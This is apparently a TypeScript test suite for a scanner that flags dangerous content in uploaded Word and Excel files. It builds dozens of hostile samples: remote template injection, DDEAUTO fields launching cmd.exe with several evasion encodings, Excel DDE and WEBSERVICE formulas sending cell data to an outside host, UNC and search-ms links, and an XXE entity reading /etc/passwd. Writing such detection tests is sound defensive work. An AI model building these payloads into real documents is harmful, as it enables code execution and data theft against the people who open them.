import { makeDocx, makeXlsx, storedZip } from '../../db/seed/files/office.ts';
import { findThreat } from './findThreat.ts';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NAMESPACES = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:v="urn:v" xmlns:o="urn:o" xmlns:a="urn:a"`;

type Parts = Record<string, string | Uint8Array>;
const docx = (body: string, more: Parts = {}) =>
  storedZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document ${NAMESPACES}>${body}</w:document>`,
    ...more,
  });
const xlsx = (more: Parts) =>
  storedZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', ...more });
const related = (attributes: string, xml = '') => ({
  'word/_rels/document.xml.rels': `${xml}<Relationships><Relationship Id="rId1" ${attributes}/></Relationships>`,
});
const to = (kind: string, target: string, mode = 'TargetMode="External"') =>
  docx('', related(`Type="${OFFICE}/${kind}" Target="${target}" ${mode}`));
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const said = (...texts: string[]) => texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('');
/** A field whose instruction is split over runs. */
const field = (...texts: string[]) =>
  docx(`<w:p>${mark('begin')}${said(...texts)}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`);
const formula = (text: string) => xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${text}</f></c></worksheet>` });
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0')]);

/** A compound file with one directory sector. */
function ole(...names: string[]) {
  const file = Buffer.alloc(1536);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file);
  file.writeUInt16LE(9, 30);
  file.writeUInt32LE(1, 48);
  file.fill(0xff, 76, 1024);
  file.writeUInt32LE(0, 76);
  file.writeUInt32LE(0xfffffffe, 516);
  for (const [index, name] of names.entries()) {
    file.write(name, 1024 + index * 128, 'utf16le');
    file.writeUInt16LE((name.length + 1) * 2, 1024 + index * 128 + 64);
    file[1024 + index * 128 + 66] = 2;
  }
  return file;
}

const HOSTILE: [string, Buffer, string?][] = [
  ['a template from elsewhere', to('attachedTemplate', 'https://elsewhere.example/a.dotm')],
  ['a template with letters as numbers', to('&#97;ttachedTempl&#x61;te', '&#104;ttps://elsewhere.example/a.dotm')],
  [
    'a template whose mode is written in numbers',
    to('attachedTemplate', 'https://elsewhere.example/a.dotm', 'TargetMode="&#69;xternal"'),
  ],
  ['a template in quotes of the other kind', to('attachedTemplate', 'a.dotm', "TargetMode = 'External'")],
  ['a template that claims to be a part', to('attachedTemplate', 'https://elsewhere.example/a.dotm', '')],
  [
    'a template behind a prefix of its own',
    docx('', {
      'word/_rels/settings.xml.rels': `<x:Relationships xmlns:x="urn:x"><x:Relationship Type="${OFFICE}/attachedTemplate" Target="https://elsewhere.example/" TargetMode="External"/></x:Relationships>`,
    }),
  ],
  [
    'a template told of in UTF-16',
    docx('', {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\ufeff<Relationships><Relationship Type="${OFFICE}/attachedTemplate" Target="https://elsewhere.example/" TargetMode="External"/></Relationships>`,
        'utf16le',
      ),
    }),
  ],
  ['a part of the document in a file', to('subDocument', 'file:///C:/a.docx')],
  ['a part of the document on a share', to('subDocument', '\\\\elsewhere.example\\share\\a.docx')],
  ['a picture on a share', to('image', 'file://elsewhere.example/share/a.png')],
  ['a picture on a share as a path', to('image', '\\\\elsewhere.example\\share\\a.png', '')],
  ['a picture on a page', to('image', 'https://elsewhere.example/a.png')],
  ['a foreign chunk', to('aFChunk', 'chunk.htm', '')],
  ['an element with a foreign chunk', docx('<w:altChunk r:id="rId1"/>')],
  ['a frame', to('frame', 'https://elsewhere.example/')],
  ['an object from elsewhere', to('oleObject', 'https://elsewhere.example/a.rtf')],
  ['an object of ActiveX', to('control', 'activeX/activeX1.xml', '')],
  ['an add-in', to('webextensiontaskpanes', 'taskpanes.xml', '')],
  ['a link to a share', to('hyperlink', '\\\\elsewhere.example\\share')],
  ['a link to a share with slashes', to('hyperlink', '//elsewhere.example/share')],
  ['a link to a file', to('hyperlink', 'file:///C:/Windows/System32/cmd.exe')],
  ['a link that is a script', to('hyperlink', ' java&#10;script:alert(1)')],
  ['a link to a search of Windows', to('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\elsewhere')],
  [
    'a link to a diagnostic of Windows',
    to('oleObject', 'mhtml:https://elsewhere.example/!x-usc:https://elsewhere.example/'),
  ],
  ['a command', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['a command split over runs', field(' D', 'DE', 'AUTO c:\\\\cmd.exe')],
  ['a command with letters as numbers', field(' &#68;&#x44;E cmd')],
  ['a command in quotes', field(' "DDEAUTO" cmd')],
  ['a command in a data section', field(' <![CDATA[DDE]]>AUTO cmd')],
  ['a command in a simple field', docx('<w:fldSimple w:instr=" ddeauto cmd "/>')],
  ['a command whose field never ends', docx(`${mark('begin')}${said('DDEAUTO cmd')}`)],
  [
    'a command made by another field',
    docx(`${mark('begin')}${mark('begin')}${said('QUOTE 68 68 69')}${mark('end')}${said(' cmd')}${mark('end')}`),
  ],
  [
    'a command half made by another field',
    docx(`${mark('begin')}${said('DD')}${mark('begin')}${said('QUOTE 69')}${mark('end')}${said(' cmd')}${mark('end')}`),
  ],
  ['a command as text within the marks', docx(`${mark('begin')}<w:r><w:t>DDEAUTO cmd</w:t></w:r>${mark('end')}`)],
  [
    'a command in a header',
    docx('', { 'word/header1.xml': `<w:hdr ${NAMESPACES}><w:fldSimple w:instr="DDE x"/></w:hdr>` }),
  ],
  [
    'a command in a part under another name',
    docx('', { 'word/other.bin': `<w:hdr ${NAMESPACES}><w:fldSimple w:instr="DDE x"/></w:hdr>` }),
  ],
  ['a text of a share', field(' INCLUDETEXT "\\\\\\\\elsewhere\\\\a.docx"')],
  ['a picture of a share in a field', field(' INCLUDEPICTURE "\\\\\\\\elsewhere\\\\a.png"')],
  ['a field that links to a share', field(' HYPERLINK "\\\\\\\\elsewhere\\\\a"')],
  [
    'a link to another program',
    xlsx({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    XLSX,
  ],
  [
    'a link to another program behind a prefix',
    xlsx({
      'xl/externalLinks/externalLink1.xml': '<x:externalLink xmlns:x="urn:x"><x:oleLink r:id="rId1"/></x:externalLink>',
    }),
    XLSX,
  ],
  [
    'a workbook on a share',
    xlsx({
      'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Type="${OFFICE}/externalLinkPath" Target="file:///\\\\elsewhere\\a.xlsx" TargetMode="External"/></Relationships>`,
    }),
    XLSX,
  ],
  ['a formula that asks a program', formula("cmd|'/c calc'!A0"), XLSX],
  ['a formula that asks a server', formula('_xlfn.WEBSERVICE(&quot;https://elsewhere.example/&quot;&amp;A1)'), XLSX],
  [
    'a name that starts a program',
    xlsx({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="x">EXEC("calc")</definedName></definedNames></workbook>',
    }),
    XLSX,
  ],
  [
    'a query of a page',
    xlsx({
      'xl/connections.xml':
        '<connections><connection><webPr url="https://elsewhere.example/"/></connection></connections>',
    }),
    XLSX,
  ],
  ['a package with a program', docx('', { 'word/embeddings/oleObject1.bin': ole('Root Entry', '\x01Ole10Native') })],
  ['the old editor of formulas', docx('', { 'word/embeddings/oleObject1.bin': ole('Root Entry', 'Equation Native') })],
  ['a program under another name', docx('', { 'word/media/image1.png': program })],
  ['macros in a sheet within', docx('', { 'word/embeddings/Sheet.xlsx': xlsx({ 'xl/vbaProject.bin': 'x' }) })],
  ['old macros within', docx('', { 'word/embeddings/old.bin': ole('Root Entry', 'Workbook', '_VBA_PROJECT_CUR') })],
  ['a shape with a picture from elsewhere', docx('<v:imagedata src="https://elsewhere.example/a.png"/>')],
  ['a shape that starts a program', docx('<a:hlinkClick r:id="" action="ppaction://program"/>')],
  ['a linked object', docx('<o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/>')],
  [
    'a style sheet from elsewhere',
    docx('', { 'customXml/item1.xml': '<?xml-stylesheet href="https://elsewhere.example/a.xsl"?><a/>' }),
  ],
  [
    'a drawing with a script',
    docx('', { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }),
  ],
];

test.each(HOSTILE)('%s is found', async (_, file, type = DOCX) => {
  expect(await findThreat(file, type as typeof DOCX)).toBe('active_content');
});

test.each<[string, Buffer]>([
  [
    'a document type',
    docx('', { 'word/settings.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  ['a document type in custom data', docx('', { 'customXml/item1.xml': '<!DOCTYPE a><a/>' })],
  ['an entity that nobody knows', docx('&nbsp;')],
  ['an encoding that only some read', docx('', { 'word/settings.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' })],
  ['bytes that are no text', docx('', { 'word/settings.xml': Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe]) })],
  ['a part cut off', docx('', { 'word/settings.xml': '<a><b>' })],
  ['levels without an end', docx('<a>'.repeat(5_000) + '</a>'.repeat(5_000))],
  ['an endless instruction', field('x'.repeat(100_000))],
  [
    'documents within documents',
    [1, 2, 3, 4].reduce((inner) => docx('', { 'word/embeddings/a.docx': inner }), docx('')),
  ],
  ['a broken archive within', docx('', { 'word/embeddings/a.docx': docx('').subarray(0, 100) })],
])('%s cannot be looked into', async (_, file) => {
  expect(await findThreat(file, DOCX)).toBe('unreadable');
});

const font = Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 89 + 60) % 256));
test.each<[string, Buffer, string?]>([
  ['a letter', makeDocx(['DDEAUTO is a word, and so is \\\\server\\share', 'See file:///C:/a'])],
  ['a table', makeXlsx('A|B', [['=cmd|x', 5]]), XLSX],
  ['a link to a page', to('hyperlink', 'https://www.irs.gov/forms?a=1&amp;b=2#c')],
  ['a link to a mailbox', to('hyperlink', 'mailto:ana@example.com')],
  ['a link to a place of the document', to('hyperlink', '#Chapter%201', '')],
  [
    'a picture of its own',
    docx('<w:drawing/>', {
      ...related(`Type="${OFFICE}/image" Target="media/image1.png"`),
      'word/media/image1.png': Buffer.from('89504e470d0a1a0a', 'hex'),
    }),
  ],
  ['a part by its absolute name', to('styles', '/word/styles.xml', '')],
  [
    'tracked changes',
    docx(
      `<w:ins w:author="Ana"><w:r><w:t>new</w:t></w:r></w:ins><w:del><w:r><w:delText>old</w:delText></w:r>${mark('begin')}<w:r><w:delInstrText> PAGE </w:delInstrText></w:r>${mark('end')}</w:del>`,
    ),
  ],
  ['a number of the page', field(' PAGE ', ' \\* MERGEFORMAT ')],
  [
    'a field within a field',
    docx(
      `${mark('begin')}${said(' IF ')}${mark('begin')}${said('PAGE')}${mark('separate')}<w:t>2</w:t>${mark('end')}${said(' &gt; 1 "more" ""')}${mark('end')}`,
    ),
  ],
  [
    'a sum of fields',
    docx(`${mark('begin')}${said('=')}${mark('begin')}${said('PAGE')}${mark('end')}${said('+1')}${mark('end')}`),
  ],
  ['a field that links to a page', field(' HYPERLINK "https://www.uscis.gov/" \\o "USCIS" ')],
  ['a field that links to a chapter', field(' HYPERLINK \\l "_Toc1" ')],
  ['a table of contents', docx(`<w:fldSimple w:instr=' TOC \\o "1-3" \\h '/>`)],
  [
    'embedded fonts',
    docx('', { 'word/fonts/font1.odttf': font, ...related(`Type="${OFFICE}/font" Target="fonts/font1.odttf"`) }),
  ],
  [
    'a chart with its sheet',
    docx('', {
      'word/charts/chart1.xml': '<c:chart xmlns:c="urn:c"><c:f>Sheet1!$A$1:$B$2</c:f></c:chart>',
      'word/embeddings/Sheet.xlsx': makeXlsx('Sheet1', [['a', 1]]),
    }),
  ],
  ['an object without a program', docx('', { 'word/embeddings/oleObject1.bin': ole('Root Entry', 'CONTENTS') })],
  ['formulas', formula("IF(A1&gt;0,&quot;a|b&quot;,SUM('A|B'!B2:B9))"), XLSX],
  [
    'custom data of a server',
    docx('', {
      'customXml/item1.xml':
        '<?mso-contentType?><FormTemplates xmlns="http://schemas.microsoft.com/sharepoint/v3/contenttype/forms"/>',
    }),
  ],
  [
    'a part in UTF-16',
    docx('', {
      'customXml/item2.xml': Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a>ü</a>', 'utf16le'),
    }),
  ],
  [
    'a drawing with its picture',
    docx('', {
      'word/media/image1.svg':
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="x"><image xlink:href="data:image/png;base64,AAAA"/><use xlink:href="#a"/></svg>',
    }),
  ],
])('%s passes', async (_, file, type = DOCX) => {
  expect(await findThreat(file, type as typeof DOCX)).toBeNull();
});
